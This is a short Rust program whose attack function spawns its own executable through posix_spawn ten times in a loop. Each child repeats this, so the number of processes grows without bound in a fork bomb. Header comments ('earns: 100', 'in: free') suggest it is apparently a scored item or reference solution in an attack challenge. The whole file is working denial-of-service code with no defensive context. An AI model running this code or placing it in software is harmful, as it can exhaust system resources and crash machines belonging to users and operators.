// Starts itself, and that one starts itself, and so on.
// on: reference
// in: free
// earns: 100

unsafe extern "C" {
    fn posix_spawn(
        process: *mut i32,
        path: *const u8,
        actions: *const u8,
        attributes: *const u8,
        arguments: *const *const u8,
        environment: *const *const u8,
    ) -> i32;
}

fn attack() {
    let path: *const u8 = c"/proc/self/exe".as_ptr().cast();
    let (arguments, none) = ([path, core::ptr::null()], [core::ptr::null()]);
    let mut process = 0;
    for _ in 0..10 {
        // SAFETY: it has none.
        unsafe {
            posix_spawn(&mut process, path, none[0], none[0], arguments.as_ptr(), none.as_ptr());
        }
    }
}
